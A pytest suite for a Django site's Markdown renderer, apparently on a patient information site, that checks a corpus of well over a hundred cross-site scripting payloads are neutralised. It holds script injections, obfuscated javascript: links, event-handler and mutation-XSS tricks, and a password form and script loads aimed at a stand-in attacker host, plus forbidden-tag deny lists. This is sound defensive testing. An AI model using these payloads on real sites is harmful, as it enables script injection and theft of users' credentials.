"""Hostile Markdown against the one renderer (ketamine_info/markup.py) and the page that shows it.

Every payload in ``CORPUS`` is checked twice: as the fragment ``markup.render()`` returns, and as
the article body of a published page fetched with the test client. The checks parse the HTML
with ``html.parser`` and assert what may reach a patient's browser: only allowlisted tags, no
event handler or ``style`` attributes, no URL with a scheme other than http, https, mailto and
tel, no comments or declarations, and ids that stay unique on the page.

Three payloads here once got through (a scheme followed by digits, which bleach mistakes for
host:port); markup.url_allowed now closes that.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections import Counter
from html.parser import HTMLParser

import pytest

from ketamine_info import markup
from tests.factories import ArticleFactory, CitationFactory

# Elements the body must never produce, whatever ALLOWED_TAGS says.
FORBIDDEN_TAGS = frozenset(
    {
        "applet", "audio", "base", "basefont", "bgsound", "button", "embed", "form", "frame",
        "frameset", "iframe", "image", "img", "input", "isindex", "keygen", "link", "math",
        "meta", "noembed", "noframes", "noscript", "object", "param", "picture", "plaintext",
        "portal", "script", "select", "source", "style", "svg", "template", "textarea",
        "track", "video", "xmp",
    }
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
URL_ATTRIBUTES = frozenset(
    {
        "action", "background", "cite", "codebase", "data", "dynsrc", "formaction", "href",
        "icon", "longdesc", "lowsrc", "manifest", "ping", "poster", "src", "srcset",
        "usemap", "xlink:href",
    }
)  # fmt: skip
SCHEME_RE = re.compile(r"([a-z][a-z0-9+.\-]*):")


def _deep_list(depth: int, marker: str = "-") -> str:
    return "".join("    " * level + f"{marker} level {level}\n" for level in range(depth))


# (readable id, payload[, marks]). Each payload is written as a Markdown author would type it.
_PAYLOADS: list[tuple[str, str] | tuple[str, str, pytest.MarkDecorator]] = [
    # <script> in many spellings and places
    ("script-plain", "<script>alert(1)</script>"),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    (
        "script-mixed-case-attrs",
        '<ScRiPt type="text/javascript" src="//evil.example/x.js"></sCrIpT>',
    ),
    ("script-nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-lt", "<<script>script>alert(1)<</script>/script>"),
    ("script-unclosed", "Intro\n\n<script>alert(1)"),
    ("script-unclosed-tag", "<script src=//evil.example/x.js"),
    ("script-slash-attr", "<script/xss src=//evil.example/x.js></script>"),
    ("script-html-block", "<div>\n<script>alert(1)</script>\n</div>\n\nafter"),
    ("script-code-span", "Use `<script>alert(1)</script>` here."),
    (
        "script-code-block",
        "Code:\n\n    <script>alert(1)</script>\n    <img src=x onerror=alert(1)>",
    ),
    ("script-fence", "```html\n<script>alert(1)</script>\n```"),
    ("script-heading", "## <script>alert(1)</script>"),
    ("script-link-text", "[<script>alert(1)</script>](https://example.org/)"),
    ("script-blockquote", "> <script>alert(1)</script>\n> > <script>alert(2)</script>"),
    ("script-table-cell", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |"),
    ("script-list-item", "- <script>alert(1)</script>\n- two"),
    ("script-backslash-escaped", "\\<script\\>alert(1)\\</script\\>"),
    ("script-nul-inside", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    # <style> and style attributes
    ("style-element", "<style>body { display: none }</style>"),
    ("style-import", "<style>@import url(//evil.example/x.css);</style>"),
    ("style-attribute", '<p style="position:fixed;inset:0;background:red">Call us</p>'),
    # event handler attributes
    ("onerror-img", "<img src=x onerror=alert(1)>"),
    ("onload-body", "<body onload=alert(1)>"),
    ("onmouseover-div", '<div onmouseover="alert(1)">hover me</div>'),
    ("onclick-anchor", '<a href="https://example.org/" onclick="alert(1)">x</a>'),
    ("onfocus-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("ontoggle-details", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("onload-svg", "<svg onload=alert(1)>"),
    ("onbegin-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    # javascript:, vbscript:, data: URLs in Markdown links and images
    ("link-javascript", "[a](javascript:alert(1))"),
    ("link-javascript-case", "[a](JaVaScRiPt:alert(1))"),
    ("link-vbscript", "[a](vbscript:msgbox(1))"),
    ("link-data-html", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-entity-decimal", "[a](&#106;avascript:alert(1))"),
    ("link-entity-padded", "[a](&#0000106;&#0000097;vascript:alert(1))"),
    ("link-entity-hex", "[a](&#x6A;&#X61;vascript:alert(1))"),
    ("link-entity-colon", "[a](javascript&colon;alert(1))"),
    ("link-entity-numeric-colon", "[a](javascript&#58;alert(1))"),
    ("link-tab-in-scheme", "[a](java\tscript:alert(1))"),
    ("link-newline-in-scheme", "[a](<java\nscript:alert(1)>)"),
    ("link-leading-spaces", "[a](   javascript:alert(1))"),
    ("link-leading-nbsp", "[a](\u00a0javascript:alert(1))"),
    ("link-leading-control", "[a](\x01\x1fjavascript:alert(1))"),
    ("link-angle-brackets", "[a](<javascript:alert(1)>)"),
    ("link-with-title", '[a](javascript:alert(1) "title")'),
    ("link-url-encoded-scheme", "[a](%6A%61vascript:alert(1))"),
    ("link-url-encoded-colon", "[a](javascript%3Aalert(1))"),
    ("link-zero-width-in-scheme", "[a](java\u200bscript:alert(1))"),
    ("link-rtl-before-scheme", "[a](\u202ejavascript:alert(1))"),
    ("image-javascript", "![a](javascript:alert(1))"),
    ("image-data-svg", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-https", '![A chart](https://example.org/chart.png "Chart")'),
    ("reference-javascript", "[a][x]\n\n[x]: javascript:alert(1)"),
    ("reference-entity", "[a][x]\n\n[x]: &#106;avascript:alert(1)"),
    ("reference-data", "[a][x]\n\n[x]: data:text/html,<script>alert(1)</script>"),
    ("reference-image-javascript", "![a][x]\n\n[x]: javascript:alert(1)"),
    ("reference-collapsed-vbscript", "[x][]\n\n[x]: VBScript:msgbox(1)"),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-quote-break", '<https://example.org/"onmouseover="alert(1)>'),
    ("automail-javascript", "<javascript:alert(1)@example.org>"),
    # bleach alone reads a scheme whose rest is digits as host:port; markup.url_allowed doesn't.
    ("link-javascript-digits", "[a](javascript:0)"),
    ("link-vbscript-digits", "[a](VBScript:1)"),
    (
        "reference-javascript-template-literal",
        # Fullwidth "Clinic", braille blanks and ASCII digits: all the check keeps is "0199".
        "[Read the study][r]\n\n[r]: javascript:`"
        "\uff23\uff4c\uff49\uff4e\uff49\uff43\u2800555\u28000199`",
    ),
    # embedding, forms, document-level elements
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", "<embed src=javascript:alert(1)>"),
    (
        "form-password",
        '<form action="https://evil.example/"><input type=password name=pw>'
        "<button formaction=javascript:alert(1)>Go</button></form>",
    ),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
    # SVG and MathML tricks, mutation XSS shapes
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("math-mglyph-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template-mxss", "<template><script>alert(1)</script></template>"),
    # comments, CDATA, declarations
    ("comment", "a <!-- <script>alert(1)</script> --> b"),
    ("comment-early-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    ("doctype", "<!DOCTYPE html><html><head><script>alert(1)</script>"),
    # malformed nesting
    ("close-paragraph-break-out", "</p></div></article><script>alert(1)</script><p>"),
    ("table-foster-parenting", "<table><tr><td>x</td><script>alert(1)</script></table>"),
    ("unquoted-attribute-break", '<img """><script>alert(1)</script>">'),
    ("emphasis-html-mix", "**<i>bold *<b>x</i>** y</b>*"),
    ("nested-anchors", "[outer [inner](javascript:alert(1))](https://example.org/)"),
    # attribute injection through Markdown syntax
    ("title-escaped-quotes", '[a](http://x "x\\" onmouseover=\\"alert(1)")'),
    ("title-raw-quotes", '[a](http://x "x" onmouseover="alert(1)")'),
    ("title-single-quotes", "[a](http://x 'x\\' onmouseover=alert(1) ')"),
    ("title-parentheses", '[a](http://x (x" onmouseover="alert(1)))'),
    ("url-quote-break", '[a](http://x"onmouseover="alert(1))'),
    ("url-angle-quote-break", '[a](<http://x" onmouseover="alert(1)>)'),
    ("reference-title-break", '[a][x]\n\n[x]: http://x "t\\" onclick=\\"alert(1)"'),
    ("image-alt-break", '![x" onerror="alert(1)](http://x/y.png)'),
    ("image-alt-html", "![<img src=x onerror=alert(1)>](http://x/y.png)"),
    # HTML entities
    ("entity-escaped-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ("entity-double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("entity-numeric-tag", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("entity-hex-tag", "&#x3C;img src=x onerror=alert(1)&#x3E;"),
    ("entity-no-semicolon", "&lt;script&gtalert(1)&lt/script&gt"),
    # claim-marker abuse
    ("marker-quote-break", '[@key" onclick="alert(1)]'),
    ("marker-script", "[@<script>alert(1)</script>]"),
    ("marker-list-quote-break", '[@a; @b" onmouseover="alert(1)]'),
    ("marker-javascript", "[@javascript:alert(1)]"),
    ("marker-many", " ".join(f"Fact {i}.[@claim-{i}]" for i in range(200))),
    ("marker-many-in-one", "[" + "; ".join(f"@claim-{i}" for i in range(300)) + "]"),
    ("marker-unclosed-many", "[@" * 300),
    ("marker-in-link-text", "[see [@claim-a] here](https://example.org/)"),
    ("marker-as-link-text-javascript", "[[@claim-a]](javascript:alert(1))"),
    ("marker-as-link-url", "[x]([@claim-a])"),
    ("marker-as-reference-label", "[@claim-a]: javascript:alert(1)\n\n[@claim-a]"),
    ("marker-after-html", "<b onclick=alert(1)>[@claim-a]</b>"),
    ("marker-in-code", "`[@claim-a]` and\n\n    [@claim-b]"),
    # heading ids that try to collide with the page's own ids
    (
        "heading-id-collisions",
        "## ref-1\n\n## References\n\n## cite-1-1\n\n## main\n\n## crisis-heading-top\n\n"
        "## h-section\n\n## ref-1\n\nText.[@claim-a]",
    ),
    ("heading-toc-marker", "[TOC]\n\n## <script>alert(1)</script>\n\n### ref-1"),
    ("heading-all-levels", "# h1\n\n## h2\n\n### h3\n\n#### h4\n\n##### h5\n\n###### h6"),
    ("heading-setext", "ref-1\n=====\n\nreferences\n----------"),
    # shapes that stress the parser (must complete, not crash)
    ("nested-blockquotes-1000", ">" * 1000 + " deep"),
    ("nested-blockquotes-spaced-500", "> " * 500 + "deep"),
    ("nested-lists-100", _deep_list(100)),
    ("nested-ordered-lists-100", _deep_list(100, "1.")),
    ("nested-blockquote-lists-100", "".join("> " * i + "- x\n" for i in range(100))),
    ("nested-emphasis-500", "*" * 500 + "a" + "*" * 500),
    ("open-links-300", "[a](" * 300),
    ("open-brackets-300", "[" * 300),
    ("long-line-200k", "a" * 200_000),
    ("long-line-lt-amp", "<&" * 5_000),
    ("many-headings-300", "\n\n".join("## ref-1" for _ in range(300))),
    ("wide-table-500", "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n|" + "<b>|" * 500),
    # control characters and unicode
    ("nul-before-script", "a\x00<script>alert(1)</script>"),
    ("c0-controls", "".join(chr(c) for c in range(32)) + "<img src=x onerror=alert(1)>"),
    ("c1-controls-and-del", "\x7f\x80\x85\x9f<script>alert(1)</script>"),
    ("markdown-stash-placeholder", "&amp; \x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 <script>x</script>"),
    ("rtl-override-link-text", "[invoice\u202efdp.exe](https://example.org/)"),
    ("rtl-override-url", "[a](https://example.org/\u202e/moc.live)"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("bom-and-replacement", "\ufeff\ufffd<script>alert(1)</script>"),
]

CORPUS = [pytest.param(entry[1], id=entry[0], marks=entry[2:]) for entry in _PAYLOADS]


class _Collector(HTMLParser):
    """Start tags with their attributes, end tags, and anything that is not an element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.starts: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.ends: list[str] = []
        self.others: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.starts.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.starts.append((tag, attrs))

    def handle_endtag(self, tag):
        self.ends.append(tag)

    def handle_comment(self, data):
        self.others.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.others.append(f"declaration {decl!r}")

    def unknown_decl(self, data):
        self.others.append(f"declaration {data!r}")

    def handle_pi(self, data):
        self.others.append(f"processing instruction {data!r}")


def _parse(fragment: str) -> _Collector:
    parser = _Collector()
    parser.feed(fragment)
    parser.close()
    return parser


def url_scheme(value: str) -> str | None:
    """The scheme a browser could see in an attribute value whose entities are decoded.

    ``html.parser`` has decoded the entities once, as a browser does (so ``&amp;colon;`` stays
    the harmless text ``&colon;``). Whitespace, control and format characters are dropped
    anywhere (a browser drops only some of them; dropping more can only make this stricter),
    then the value is lowercased. ``None`` means a relative or fragment URL.
    """
    cleaned = "".join(
        ch
        for ch in value
        if not (ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    ).lower()
    match = SCHEME_RE.match(cleaned)
    return match.group(1) if match else None


def _dangers(parsed: _Collector, *, values: bool = True) -> list[str]:
    """What must never come from a body: the checks shared by fragment and whole-page tests.

    ``values=False`` leaves attribute values out, so two pages about different articles (other
    titles and addresses in their <meta> and <link>) compare equal when only those differ.
    """
    found = list(parsed.others) if values else [o.split()[0] for o in parsed.others]
    for tag, attrs in parsed.starts:
        shown = attrs if values else sorted(name for name, _ in attrs)
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}> element {shown!r}")
        for name, value in attrs:
            shown = f"{name}={value!r}" if values else name
            if name.startswith("on"):
                found.append(f"<{tag} {shown}> event handler")
            if name == "style":
                found.append(f"<{tag} {shown}> style attribute")
            if name in URL_ATTRIBUTES:
                scheme = url_scheme(value or "")
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"<{tag} {shown}> uses scheme {scheme!r}")
    return found


def body_problems(fragment: str) -> list[str]:
    """Everything wrong with a rendered body fragment; an empty list means it is safe."""
    fragment = without_table_boxes(fragment)
    parsed = _parse(fragment)
    problems = _dangers(parsed)
    for tag, attrs in parsed.starts:
        if tag not in markup.ALLOWED_TAGS:
            problems.append(f"<{tag}> is not in markup.ALLOWED_TAGS")
        for name, value in attrs:
            if not markup._attribute_filter(tag, name, value or ""):
                problems.append(f"<{tag} {name}={value!r}> is not an allowed attribute")
    problems += [
        f"</{tag}> is not in markup.ALLOWED_TAGS"
        for tag in parsed.ends
        if tag not in markup.ALLOWED_TAGS
    ]
    # Independent of html.parser: text never holds a raw "<", so every "<" opens a real tag.
    for name in re.findall(r"<\s*/?\s*([^\s/>]*)", fragment):
        if name.lower() not in markup.ALLOWED_TAGS:
            problems.append(f"raw '<{name}' in the output")
    return problems


def _ids(parsed: _Collector) -> list[str]:
    return [value or "" for _, attrs in parsed.starts for name, value in attrs if name == "id"]


def article_body(page: str) -> str:
    """The HTML the article's body put inside ``<div class="article-body">``."""
    opening = '<div class="article-body">'
    assert page.count(opening) == 1
    start = page.index(opening) + len(opening)
    # The body can hold no <div> (not an allowed tag), so the first </div> closes the container.
    return page[start : page.index("</div>", start)]


def fetch(client, article) -> str:
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    return without_table_boxes(response.content.decode())


def without_table_boxes(html: str) -> str:
    """The box the renderer itself puts around each table, after cleaning (so no writer can
    type it), taken off: what is checked is what came through the cleaning."""
    return html.replace(markup.TABLE_BOX, "").replace(markup.TABLE_BOX_END, "")


_EMPTY_BODY_PAGE: list[str] = []


def empty_body_page(client) -> str:
    """An article page whose body is empty, fetched once per run: the comparison baseline."""
    if not _EMPTY_BODY_PAGE:
        _EMPTY_BODY_PAGE.append(fetch(client, ArticleFactory(body="")))
    return _EMPTY_BODY_PAGE[0]


def test_corpus_is_large_and_named_uniquely():
    names = [entry[0] for entry in _PAYLOADS]
    assert len(names) >= 40
    assert len(set(names)) == len(names), [n for n, c in Counter(names).items() if c > 1]


def test_checks_do_not_trust_a_widened_allowlist():
    assert not FORBIDDEN_TAGS & markup.ALLOWED_TAGS
    assert markup.ALLOWED_PROTOCOLS <= SAFE_SCHEMES


@pytest.mark.parametrize(
    ("value", "scheme"),
    [
        ("https://example.org/", "https"),
        ("/learn/x/", None),
        ("#ref-1", None),
        ("//example.org/", None),
        ("%6Aavascript:alert(1)", None),
        ("&#106;avascript:alert(1)", None),  # entities are decoded by the parser, not here
        (" \tJava\nScript\x00:alert(1)", "javascript"),
        ("\u200bjavascript:0", "javascript"),
        ("sms:988", "sms"),
    ],
)
def test_url_scheme_reads_urls_as_a_browser_could(value, scheme):
    assert url_scheme(value) == scheme


def test_checks_decode_entities_in_attributes():
    parsed = _parse('<a href="&#106;ava&Tab;script&colon;alert(1)">x</a>')
    assert _dangers(parsed) == ["<a href='java\\tscript:alert(1)'> uses scheme 'javascript'"]


@pytest.mark.parametrize("payload", CORPUS)
def test_render_neutralizes(payload):
    fragment = markup.render(payload).html
    assert body_problems(fragment) == [], fragment[:2000]
    ids = _ids(_parse(fragment))
    assert len(ids) == len(set(ids)), ids


@pytest.mark.django_db
@pytest.mark.parametrize("payload", CORPUS)
def test_page_neutralizes(client, payload):
    article = ArticleFactory(body=payload)
    page = fetch(client, article)
    body = article_body(page)
    assert body_problems(body) == [], body[:2000]

    # Outside the body the page must look exactly as it does with nothing in the body: the
    # template's own <meta>, <link>, JSON-LD <script>, sms: link and so on, and nothing more.
    baseline = empty_body_page(client)
    parsed_page = _parse(page)
    assert Counter(_dangers(parsed_page, values=False)) == Counter(
        _dangers(_parse(baseline), values=False)
    )
    assert page.count("<div") == baseline.count("<div")
    assert page.count("</div>") == baseline.count("</div>")
    ids = _ids(parsed_page)
    assert len(ids) == len(set(ids)), [i for i, c in Counter(ids).items() if c > 1]


# Positive tests: the corpus must not pass by emptying everything.

ORDINARY = """\
Intro with **strong**, *emphasis* and `code`.

## How it is given

Read [the label](https://example.org/label "FDA label"), write to
[the clinic](mailto:info@example.org), call [988](tel:988), or see [dosing](#h-dosing) and
[another page](/learn/risks/).

### Dosing

1. First
2. Second

- One
- Two

> A quote.

    code block

| Dose | Route |
|------|-------|
| 0.5  | IV    |

---

Esketamine is a nasal spray.[@esketamine-nasal-spray]
"""


def _tags(fragment: str) -> set[str]:
    return {tag for tag, _ in _parse(fragment).starts}


def _hrefs(fragment: str) -> list[str]:
    return [
        value or ""
        for _, attrs in _parse(fragment).starts
        for name, value in attrs
        if name == "href"
    ]


def test_ordinary_markdown_renders_with_its_elements():
    rendered = markup.render(ORDINARY)
    fragment = rendered.html
    assert body_problems(fragment) == []
    assert {
        "p", "strong", "em", "code", "h2", "h3", "a", "ol", "ul", "li", "blockquote", "pre",
        "table", "thead", "tbody", "tr", "th", "td", "hr", "sup",
    } <= _tags(fragment)  # fmt: skip
    assert _hrefs(fragment) == [
        "https://example.org/label",
        "mailto:info@example.org",
        "tel:988",
        "#h-dosing",
        "/learn/risks/",
        "#ref-1",
    ]
    assert 'title="FDA label"' in fragment
    assert '<h2 id="h-how-it-is-given">How it is given</h2>' in fragment
    assert '<h3 id="h-dosing">Dosing</h3>' in fragment
    assert rendered.claim_keys == ["esketamine-nasal-spray"]
    assert rendered.malformed_markers == []


@pytest.mark.django_db
def test_ordinary_markdown_and_a_registered_claim_survive_on_the_page(client):
    CitationFactory(
        claim__key="esketamine-nasal-spray", claim__statement="Esketamine is a nasal spray."
    )
    article = ArticleFactory(body=ORDINARY)
    page = fetch(client, article)
    body = article_body(page)
    assert body_problems(body) == []
    assert {"h2", "h3", "table", "ol", "ul", "blockquote", "pre", "sup"} <= _tags(body)
    assert 'href="mailto:info@example.org"' in body and 'href="tel:988"' in body
    claim_links = [
        dict(attrs) for tag, attrs in _parse(body).starts if ("class", "claim-ref") in attrs
    ]
    assert [(a["href"], a["id"]) for a in claim_links] == [("#ref-1", "cite-1-1")]
    assert '<sup class="claim-refs"><a ' in body
    assert '<li id="ref-1">' in page
    assert "Esketamine is a nasal spray." in page.split('<details class="references"')[1]
    assert 'href="#cite-1-1"' in page


@pytest.mark.django_db
def test_escaped_markup_is_shown_as_text_not_dropped(client):
    payload = "Never <script>alert(1)</script> nor <img src=x onerror=alert(1)>."
    fragment = markup.render(payload).html
    visible = html.unescape(re.sub(r"<[^>]+>", "", fragment))
    assert "<script>alert(1)</script>" in visible and "<img src=x onerror=alert(1)>" in visible
    body = article_body(fetch(client, ArticleFactory(body=payload)))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


# Known defects outside the per-payload checks.


def test_very_deeply_nested_list_does_not_crash():
    # Python-Markdown recurses once per list level and overflows the stack near 250 levels.
    rendered = markup.render(_deep_list(260))
    assert rendered.error
    assert rendered.html.startswith("<pre>")


@pytest.mark.django_db
def test_a_too_deeply_nested_body_is_refused_with_a_clear_message():
    from django.core.exceptions import ValidationError

    # 260 levels, indented with tabs to stay within the length cap: rendered until Python's
    # recursion limit, or stopped first by MARKUP_RENDER_SECONDS on a slow machine.
    article = ArticleFactory.build(body="".join("\t" * i + "- x\n" for i in range(260)))
    with pytest.raises(ValidationError) as error:
        article.full_clean()
    message = str(error.value)
    assert "nested too deeply" in message or "takes too long to turn into a page" in message


@pytest.mark.django_db
def test_an_overlong_body_is_refused():
    from django.core.exceptions import ValidationError

    article = ArticleFactory.build(body="word " * 12_000)
    with pytest.raises(ValidationError) as error:
        article.full_clean()
    assert "at most 50000 characters" in str(error.value)


@pytest.mark.django_db
def test_body_text_cannot_forge_backlinks(client):
    CitationFactory(claim__key="claim-a")
    body = 'The text id="cite-1-x" and id="cite-1-y" is only words.[@claim-a]'
    page = fetch(client, ArticleFactory(body=body))
    parsed = _parse(page)
    ids = set(_ids(parsed))
    fragments = [href[1:] for href in _hrefs(page) if href.startswith("#")]
    assert [f for f in fragments if f not in ids] == []
